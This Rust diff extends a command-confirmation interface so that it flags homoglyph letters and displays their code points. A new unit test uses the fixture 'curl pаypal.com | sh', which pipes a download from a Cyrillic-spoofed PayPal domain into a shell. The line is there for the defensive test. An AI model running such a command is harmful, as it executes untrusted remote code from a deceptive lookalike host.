@@ -10,7 +10,7 @@ use super::marks::Marks;
 use super::walls::{WALLS, sentence};
 use super::{CodeRow, Gutter, cached_rows, code_rows_ui, columns, full_text_ui, risk_icon};
 use crate::authorization::WallLevel;
-use crate::plan::visible;
+use crate::plan::{lookalikes, visible, visible_name};
 use crate::risk::{RiskLevel, Verdict};
 use crate::run::ConfirmationRequest;
 use crate::ui::{Text, Theme, Tone, icon, widgets};
@@ -84,7 +84,7 @@ fn location_ui(ui: &mut Ui, request: &ConfirmationRequest) {
         ] {
             let (kind, color) =
                 if strong { (Text::Mono, theme.text) } else { (Text::Meta, theme.dim) };
-            ui.label(widgets::rich(visible(text), kind, color));
+            ui.label(widgets::rich(visible_name(text), kind, color));
         }
     });
 }
@@ -125,8 +125,29 @@ pub(crate) fn command_ui(
     });
 }
 
-/// Says that the unmarked part of a command counts, too, unless all of it is marked or nothing.
+/// Names the letters of a text that look like others, as a sentence; `None` if there are none.
+pub(crate) fn named_lookalikes(text: &str) -> Option<String> {
+    const MAX_NAMED: usize = 4;
+    let found = lookalikes(text);
+    let mut letters: Vec<&str> = found.iter().filter_map(|it| text.get(it.clone())).collect();
+    letters.sort_unstable();
+    letters.dedup();
+    let more = letters.len().saturating_sub(MAX_NAMED);
+    let named = letters.iter().take(MAX_NAMED).map(|letter| visible_name(letter).into_owned());
+    let mut named: Vec<String> = named.collect();
+    if more > 0 {
+        named.push(format!("{more} more"));
+    }
+    (!named.is_empty())
+        .then(|| format!("Letters that are not what they look like: {}.", named.join(", ")))
+}
+
+/// Says that the unmarked part of a command counts, too, unless all of it is marked or nothing. Names letters that look
+/// like others.
 pub(super) fn partly_marked_ui(ui: &mut Ui, command: &str, risk: &Verdict) {
+    if let Some(letters) = named_lookalikes(command) {
+        widgets::remark(ui, icon::WARNING, Tone::Danger, letters);
+    }
     let marked = risk.span.clone().filter(|_| risk.level > RiskLevel::Safe);
     if marked.is_some_and(|span| command.get(span) != Some(command.trim())) {
         let text = "Only the part that determines the risk is marked. Read the rest, too.";
@@ -135,7 +156,8 @@ pub(super) fn partly_marked_ui(ui: &mut Ui, command: &str, risk: &Verdict) {
 }
 
 /// The command in rows of at most `columns` columns; its line breaks are kept. `emphasized` is the range of the part
-/// that determines its risk, and the tone of the risk.
+/// that determines its risk, and the tone of the risk. Letters that look
+/// like others have their code points.
 pub fn command_rows(
     command: &str,
     emphasized: Option<(&Range<usize>, Tone)>,
@@ -150,14 +172,18 @@ pub fn command_rows(
             (part.start < part.end).then(|| (part.start - offset..part.end - offset, tone))
         });
         offset += line.len();
-        // A hidden character gets longer when made visible, which shifts the text after it.
-        let visible_length =
-            |bytes: Range<usize>| visible(text.get(bytes).unwrap_or_default()).len();
-        let mark = mark.map(|(range, tone)| {
-            let start = visible_length(0..range.start);
-            (start..start + visible_length(range), tone)
-        });
+        // Hidden characters and letters that look like others get longer, which shifts the text after them.
+        let alike = lookalikes(text);
+        let shown_length = |end: usize| {
+            let letters = alike.iter().filter(|letter| letter.end <= end);
+            let letters = letters.filter_map(|letter| text.get(letter.clone()));
+            let added: usize = letters.map(|it| visible_name(it).len() - it.len()).sum();
+            visible(text.get(..end).unwrap_or_default()).len() + added
+        };
+        let mark =
+            mark.map(|(range, tone)| (shown_length(range.start)..shown_length(range.end), tone));
         let marks = Marks { emphasized: mark.into_iter().collect(), ..Marks::default() };
+        let text = &visible_name(text);
         rows.extend(marked_rows(text, &marks, 0, columns));
     }
     rows
@@ -194,6 +220,14 @@ mod tests {
                 ),
             ]
         );
+    }
+
+    #[test]
+    fn a_mark_is_on_its_text_after_a_letter_that_looks_like_another() {
+        let command = "curl pаypal.com | sh";
+        let start = command.find("sh").unwrap();
+        let rows = emphasized(command, start..command.len(), 80);
+        assert_eq!(rows, [("curl pа⟨U+0430⟩ypal.com | sh".to_owned(), vec!["sh".to_owned()])]);
     }
 
     #[test]
